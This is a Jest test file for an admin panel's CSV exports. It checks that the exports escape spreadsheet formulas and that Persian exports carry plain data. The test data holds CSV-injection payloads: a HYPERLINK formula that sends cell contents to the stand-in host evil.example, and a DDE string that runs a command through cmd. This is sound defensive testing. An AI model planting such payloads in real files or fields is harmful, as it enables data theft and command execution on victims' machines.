// CSV ("formula") injection, through every export of the panel: each page's Export CSV with a cell
// that a spreadsheet would run (`=…`, `+…`, `-…`, `@…`), in the field people without a staff
// account can fill (a device's model sent with an app key, the name typed at a failed sign-in) and
// in a field of every other export. Each file starts with the byte-order mark; each such cell is
// written with a leading apostrophe (src/contract/csv.ts); plain numbers stay numbers. The
// server-paged lists (devices, audit log) are exported by the server, which writes the file with the
// same writer (__tests__/server/routes/list-exports.test.ts): the panel saves its bytes unchanged.
// And every export is data, not display, in Persian too: ISO dates, Latin digits, headers
// translated without the bidi isolates the screen's labels carry.
import { screen, waitFor } from '@testing-library/react';
import Papa from 'papaparse';
import { csvText } from '../../../src/contract/csv';
import { renderApp } from '../support/render';
import { json, useFakeServer } from '../support/fake-server';
import { makeUser, ROLES } from '../support/fixtures';
import { makeApp } from './apps/fixtures';
import { SERVER, profile } from './servers/support';
import { staff } from './users/support';

const server = useFakeServer();
// Whole-app renders with the data grid are heavy on a shared 2-core machine.
jest.setTimeout(60_000);

const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open")';
const DDE = "=cmd|' /C calc'!A0";
const PLUS = '+1+cmd';
const AT = '@SUM(1+1)*cmd';

let blobs: Blob[];
let names: string[];
let restore: () => void;
beforeEach(() => {
  blobs = [];
  names = [];
  Object.defineProperty(URL, 'createObjectURL', { configurable: true, value: (b: Blob) => (blobs.push(b), 'blob:x') });
  Object.defineProperty(URL, 'revokeObjectURL', { configurable: true, value: () => undefined });
  const click = jest.spyOn(HTMLAnchorElement.prototype, 'click').mockImplementation(function (this: HTMLAnchorElement) {
    names.push(this.download);
  });
  restore = () => click.mockRestore();
});
afterEach(() => restore());

/** The blob's text with its byte-order mark kept (readAsText drops it). */
const readText = (blob: Blob) =>
  new Promise<string>((resolve, reject) => {
    const reader = new FileReader();
    reader.onload = () => resolve(new TextDecoder('utf-8', { ignoreBOM: true }).decode(reader.result as ArrayBuffer));
    reader.onerror = () => reject(reader.error);
    reader.readAsArrayBuffer(blob);
  });

/** Clicks Export CSV and answers the file's name, raw text (BOM included) and cells as a spreadsheet importer reads them. */
async function exported(user: { click: (el: Element) => Promise<void> }) {
  await user.click(await screen.findByRole('button', { name: 'Export CSV' }));
  await waitFor(() => expect(names).toHaveLength(1));
  const text = await readText(blobs[0]);
  return { name: names[0], text, cells: Papa.parse<string[]>(text.replace(/^\uFEFF/, ''), { newline: '\r\n' }).data.flat() };
}

/** No cell of the file starts as a formula, unless it is a plain number; the given cells are there, escaped. */
function expectNeutralised(file: { text: string; cells: string[] }, ...payloads: string[]) {
  expect(file.text.charCodeAt(0)).toBe(0xfeff);
  for (const p of payloads) {
    expect(file.cells).toContain(`'${p}`);
    expect(file.cells).not.toContain(p);
  }
  const live = file.cells.filter((c) => /^[=+\-@\t\r]/.test(c) && !/^[+-]?\d+(\.\d+)?$/.test(c));
  expect(live).toEqual([]);
}

const user = () => json({ data: makeUser() });

describe('every CSV export neutralises spreadsheet formulas', () => {
  it('devices: the server writes the file (a model sent with an app key), the panel saves it unchanged', async () => {
    server.on('GET', 'users/current', user());
    server.on('GET', 'apps', json({ data: [{ id: 1, name: 'Alpha', active: true, apiKey: 'a'.repeat(64) }] }));
    const device = (id: number, model: string) => ({
      id,
      app: { id: 1, name: 'Alpha' },
      model,
      uniqueDeviceId: `device-${id}`,
      fcmToken: `fcm-${id}`,
      appVersionCode: -5,
      createdAt: '2024-03-20T10:00:00.000Z',
      updatedAt: '2024-03-20T10:00:00.000Z',
    });
    server.on('GET', 'apps/devices', json({ rows: [device(1, DDE), device(2, FORMULA)], count: 2, countEstimated: false }));
    const written = csvText(
      ['ID', 'Model', 'App version'],
      [
        [1, DDE, -5],
        [2, FORMULA, -5],
      ],
    );
    server.on('GET', 'apps/devices/export', { status: 200, body: written, contentType: 'text/csv; charset=utf-8' });
    const view = await renderApp({ route: '/app/devices', token: 'tok', locale: 'en' });
    await screen.findByText('device-1');
    const file = await exported(view.user);
    expect(server.calls('GET', 'apps/devices/export')).toHaveLength(1);
    expect(file.name).toBe('report.csv');
    expect(file.text).toBe(written);
    expectNeutralised(file, DDE, FORMULA);
    expect(file.cells).toContain('-5'); // a negative number stays a number
  });

  it('audit log: the server writes the file (the name typed at a failed sign-in), the panel saves it unchanged', async () => {
    server.on('GET', 'users/current', user());
    server.on('GET', 'audit/filters', json({ data: { actions: ['auth.signInFailed'], targetTypes: ['user'], actors: [] } }));
    const failed = {
      id: 1,
      at: '2026-01-01T00:00:00.000Z',
      actorId: null,
      actorName: AT,
      actorRole: null,
      ip: '127.0.0.1',
      action: 'auth.signInFailed',
      operation: 'POST /api/v1/users/signin',
      targetType: 'user',
      targetId: null,
      targetName: DDE,
      before: null,
      after: null,
      detail: { login: FORMULA },
    };
    server.on('GET', 'audit', json({ rows: [failed], count: 1 }));
    const written = csvText(['ID', 'User', 'Target name'], [[1, AT, DDE]]);
    server.on('GET', 'audit/export', { status: 200, body: written, contentType: 'text/csv; charset=utf-8' });
    const view = await renderApp({ route: '/settings/audit', token: 'tok', locale: 'en' });
    await screen.findByText('1 records');
    const file = await exported(view.user);
    expect(file.name).toBe('audit.csv');
    expect(file.text).toBe(written);
    expectNeutralised(file, AT, DDE);
  });

  it('applications', async () => {
    server.on('GET', 'users/current', user());
    server.on('GET', 'apps', json({ data: [makeApp({ id: 1, name: PLUS, googlePlayLink: FORMULA })] }));
    const view = await renderApp({ route: '/app/manage', token: 'tok', locale: 'en' });
    await screen.findByRole('grid');
    expectNeutralised(await exported(view.user), PLUS, FORMULA);
  });

  it('servers', async () => {
    server.on('GET', 'users/current', user());
    server.on('GET', 'apps/servers', json({ data: [{ ...SERVER, apps: [{ app: { id: 3, name: DDE } }] }] }));
    server.on('GET', 'apps', json({ data: [{ id: 3, name: DDE }] }));
    server.on('GET', 'apps/countries', json({ data: [] }));
    const view = await renderApp({ route: '/servers/manage', token: 'tok', locale: 'en' });
    await screen.findByText(SERVER.ip);
    expectNeutralised(await exported(view.user), DDE);
  });

  it("a server's profiles", async () => {
    server.on('GET', 'users/current', json({ data: makeUser({ role: ROLES.admin }) }));
    server.on('GET', 'apps/servers', json({ data: [SERVER] }));
    server.on('GET', `apps/profiles/${SERVER.id}`, json({ data: [profile(1, AT, 'vless', 'mci'), profile(2, '-1+1', 'vmess', 'wifi')] }));
    const view = await renderApp({ route: `/servers/${SERVER.id}`, token: 'tok', locale: 'en' });
    await screen.findByRole('grid');
    expectNeutralised(await exported(view.user), AT, '-1+1');
  });

  it('users', async () => {
    server.on('GET', 'users/current', user());
    server.on(
      'GET',
      'users',
      json({ data: [staff({ id: 2, username: 'sara', name: FORMULA, family: PLUS, eName: FORMULA, eFamily: PLUS, role: ROLES.appAdmin })], app: [] }),
    );
    server.on('GET', 'access/roles', json({ data: [ROLES.admin, ROLES.appAdmin, ROLES.restricted] }));
    const view = await renderApp({ route: '/users/list', token: 'tok', locale: 'en' });
    await screen.findByText('sara', { selector: 'bdi' });
    const file = await exported(view.user);
    expectNeutralised(file);
    expect(file.cells.some((c) => c.startsWith(`'${FORMULA}`))).toBe(true);
  });

  it('roles', async () => {
    server.on('GET', 'users/current', user());
    server.on(
      'GET',
      'access/roles',
      json({ data: [{ id: 7, name: 'support', requireTotp: false, description: DDE, createdAt: '2025-03-21T08:00:00.000Z', usersCount: 0, scope: 'all' }] }),
    );
    server.on('GET', 'access/menus', json({ data: [] }));
    server.on('GET', 'access/operations', json({ data: [] }));
    const view = await renderApp({ route: '/users/roles', token: 'tok', locale: 'en' });
    await screen.findByRole('grid');
    await screen.findByText(DDE);
    expectNeutralised(await exported(view.user), DDE);
  });

  it('domain encryption apps', async () => {
    server.on('GET', 'users/current', user());
    const app = {
      id: 1,
      name: 'Alpha',
      packageName: 'com.example.alpha',
      adminId: 2,
      adminName: AT,
      active: true,
      repoName: 'acme/alpha',
      github: FORMULA,
      gitlab: null,
      gitea: null,
      codeberg: null,
      bitbucket: null,
    };
    server.on('GET', 'apps', json({ data: [app] }));
    const view = await renderApp({ route: '/settings/domain-encryption', token: 'tok', locale: 'en' });
    await view.user.click(await screen.findByRole('tab', { name: 'Apps' }));
    await screen.findByRole('grid');
    expectNeutralised(await exported(view.user), AT, FORMULA);
  });
});

// A Persian apps export once had `کلید API` wrapped in isolates (U+2066…U+2069) and the
// device list's dates were Jalali in Persian digits. In Persian, a client-side export's header is the
// translated label without bidi controls, and its values are the data: ISO dates, Latin digits.
describe('a Persian export is data, not display', () => {
  const EXPORT_FA = 'خروجی \u2066CSV\u2069';
  const BIDI = /[\u061C\u200E\u200F\u202A-\u202E\u2066-\u2069]/;

  it('applications: the headers as translated, without the isolates of the screen', async () => {
    server.on('GET', 'users/current', user());
    server.on('GET', 'apps', json({ data: [makeApp({ id: 1, name: 'سرعت \u2066VPN\u2069', apiKey: 'k'.repeat(64) })] }));
    const view = await renderApp({ route: '/app/manage', token: 'tok', locale: 'fa' });
    await screen.findByRole('grid');
    await view.user.click(await screen.findByRole('button', { name: EXPORT_FA }));
    await waitFor(() => expect(names).toHaveLength(1));
    const text = await readText(blobs[0]);
    expect(text).not.toMatch(BIDI);
    const [header, row] = Papa.parse<string[]>(text.replace(/^\uFEFF/, ''), { newline: '\r\n' }).data;
    expect(header).toContain('کلید API');
    expect(row).toContain('k'.repeat(64));
    expect(row).toContain('سرعت VPN');
  });

  it('roles: the creation time in ISO 8601 and counts in Latin digits, not the Jalali date shown', async () => {
    server.on('GET', 'users/current', user());
    server.on(
      'GET',
      'access/roles',
      json({
        data: [{ id: 7, name: 'support', requireTotp: false, description: 'پشتیبانی', createdAt: '2025-03-21T08:00:00.000Z', usersCount: 12, scope: 'all' }],
      }),
    );
    server.on('GET', 'access/menus', json({ data: [] }));
    server.on('GET', 'access/operations', json({ data: [] }));
    const view = await renderApp({ route: '/users/roles', token: 'tok', locale: 'fa' });
    await screen.findByRole('grid');
    await screen.findByText('پشتیبانی');
    await view.user.click(await screen.findByRole('button', { name: EXPORT_FA }));
    await waitFor(() => expect(names).toHaveLength(1));
    const text = await readText(blobs[0]);
    expect(text).not.toMatch(BIDI);
    expect(text).not.toMatch(/[۰-۹٠-٩]/);
    const cells = Papa.parse<string[]>(text.replace(/^\uFEFF/, ''), { newline: '\r\n' }).data.flat();
    expect(cells).toContain('2025-03-21T08:00:00.000Z');
    expect(cells).toContain('12');
  });
});
